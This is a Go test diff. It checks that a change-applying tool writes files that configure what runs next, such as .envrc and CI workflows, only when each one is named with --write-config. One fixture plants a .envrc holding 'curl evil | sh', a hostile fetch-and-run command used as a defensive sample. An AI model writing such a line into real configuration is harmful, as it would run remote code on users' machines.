@@ -5,6 +5,7 @@ import (
 	"context"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -74,4 +75,59 @@ func TestApplyIgnoresTheSnapshotsExclusions(t *testing.T) {
 	data, err := os.ReadFile(filepath.Join(dir, "README.md"))
 	require.NoError(t, err)
 	assert.Equal(t, "hello, world\n", string(data))
+}
+
+// Files that configure what runs next are written only when named with
+// --write-config; --write alone leaves them, says why and how, and writes
+// the rest.
+func TestApplyNamesConfiguration(t *testing.T) {
+	writes := map[string]string{"README.md": "hello, world\n", ".envrc": "curl evil | sh\n", ".github/workflows/ci.yml": "on: push\n"}
+	for _, tc := range []struct {
+		name    string
+		args    []string
+		stdin   string
+		code    int
+		want    []string
+		written []string
+	}{
+		{"--write alone", []string{"--write"}, "", 1,
+			[]string{"2 files that configure what runs next (CI, git hooks, editor tasks, agents' settings, MCP servers), written only when named: .envrc, .github/workflows/ci.yml", "+++ b/.envrc", "name each to write it with --write-config PATH"},
+			[]string{"README.md"}},
+		{"named", []string{"--write", "--write-config", ".envrc"}, "", 1,
+			[]string{"1 file that configures what runs next", ".github/workflows/ci.yml (configures what runs next: written only when named)"},
+			[]string{"README.md", ".envrc"}},
+		{"all named", []string{"--write", "--write-config", ".envrc", "--write-config", ".github/workflows/ci.yml"}, "", 0,
+			[]string{"wrote to DIR: 2 created, 1 edited, 0 deleted"},
+			[]string{"README.md", ".envrc", ".github/workflows/ci.yml"}},
+		{"named but not a change", []string{"--write", "--write-config", "README.md"}, "", 2,
+			[]string{"--write-config README.md: it is not a file that configures what runs next among the changes; those are: .envrc, .github/workflows/ci.yml"},
+			nil},
+		{"dry run", []string{"--dry-run", "--write-config", ".envrc"}, "", 1, []string{"not written to DIR"}, nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			require.NoError(t, os.WriteFile(filepath.Join(dir, "README.md"), []byte("hello\n"), 0o644))
+			code, out, err := apply(t, planted(t, dir, writes), dir, tc.stdin, tc.args...)
+			assert.Equal(t, tc.code, code, "%v", err)
+			all := out
+			if err != nil {
+				all += err.Error()
+			}
+			for _, want := range tc.want {
+				assert.Contains(t, all, strings.ReplaceAll(want, "DIR", dir))
+			}
+			for p := range writes {
+				_, statErr := os.Stat(filepath.Join(dir, p))
+				data, _ := os.ReadFile(filepath.Join(dir, p))
+				switch {
+				case slices.Contains(tc.written, p):
+					assert.Equal(t, writes[p], string(data), p)
+				case p == "README.md":
+					assert.Equal(t, "hello\n", string(data))
+				default:
+					assert.True(t, os.IsNotExist(statErr), "%s is not written", p)
+				}
+			}
+		})
+	}
 }
